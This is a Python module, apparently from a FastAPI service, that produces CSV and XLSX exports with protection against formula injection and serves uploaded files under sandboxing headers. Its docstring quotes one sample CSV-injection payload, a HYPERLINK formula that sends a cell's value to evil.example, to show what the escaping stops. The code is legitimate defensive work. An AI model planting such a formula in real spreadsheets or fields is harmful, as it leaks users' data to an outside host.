"""CSV (UTF-8 with BOM, opens in Excel) and XLSX downloads, safe to open in a spreadsheet.

Every cell goes through :func:`neutral_cell`: text that a spreadsheet would run as a formula —
starting with ``=``, ``+``, ``-`` (unless the whole cell is a number), ``@``, a tab or a carriage
return — gets a leading single quote (OWASP "CSV injection"), so an account name such as
``=HYPERLINK("http://evil.example/?x="&B2,"Pay")`` is shown, never run. XLSX cells are written with
the string type, so openpyxl never stores a ``<f>`` formula. Every export of every service uses
these two functions.

Stored uploads (scans, originals, passbook covers) are answered by :func:`stored_object`: with
``Content-Security-Policy: sandbox`` (a PDF or an image with a script in it runs with no origin)
and ``X-Content-Type-Options: nosniff`` (the declared type is the only one a browser uses).
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from fastapi.responses import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutral_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may show it: numbers as they are, ``None`` as empty, and text that
    would start a formula prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.match(text):
        return "'" + text
    return text


STORED_OBJECT_HEADERS = {
    "Cache-Control": "private, no-store",
    "X-Content-Type-Options": "nosniff",
    "Content-Security-Policy": "sandbox",
}


def stored_object(data: bytes, content_type: str, headers: dict[str, str] | None = None) -> Response:
    """An uploaded file as stored, served so that nothing in it can run in the site's origin."""
    return Response(data, media_type=content_type, headers={**STORED_OBJECT_HEADERS, **(headers or {})})


def _download(body: bytes, media_type: str, filename: str) -> Response:
    return Response(
        body,
        media_type=media_type,
        headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"},
    )


def csv_response(header: list[str], rows: list[list], filename: str) -> Response:
    return csv_sections_response([[header, *rows]], filename)


def xlsx_response(header: list[str], rows: list[list], filename: str, title: str) -> Response:
    return xlsx_book_response([(title, [header, *rows])], filename)


def xlsx_book_response(sheets: list[tuple[str, list[list]]], filename: str) -> Response:
    """One workbook with a sheet per ``(title, rows)``; the first row of each is its header."""
    from openpyxl import Workbook  # ~20 MB, loaded by the first XLSX export only

    book = Workbook()
    for index, (title, rows) in enumerate(sheets):
        sheet = book.worksheets[0] if index == 0 else book.create_sheet()  # a new book has one sheet
        sheet.title = title
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                _xlsx_cell(sheet, r, c, neutral_cell(value))
    out = io.BytesIO()
    book.save(out)
    return _download(out.getvalue(), XLSX_TYPE, filename)


def csv_sections_response(sections: list[list[list]], filename: str) -> Response:
    """One CSV of several tables (each a list of rows, its header first), an empty line between them."""
    out = io.StringIO()
    writer = csv.writer(out)
    for index, rows in enumerate(sections):
        if index:
            writer.writerow([])
        writer.writerows([[neutral_cell(v) for v in row] for row in rows])
    return _download(("\ufeff" + out.getvalue()).encode(), "text/csv; charset=utf-8", filename)


def _xlsx_cell(sheet: Any, row: int, column: int, value: Any) -> None:
    """A number stays a number; anything else is stored as a string (data type ``s``), whatever it
    starts with — openpyxl would otherwise store text starting with ``=`` as a formula."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        cell.value = value
    else:
        cell.value = str(value)
        cell.data_type = "s"
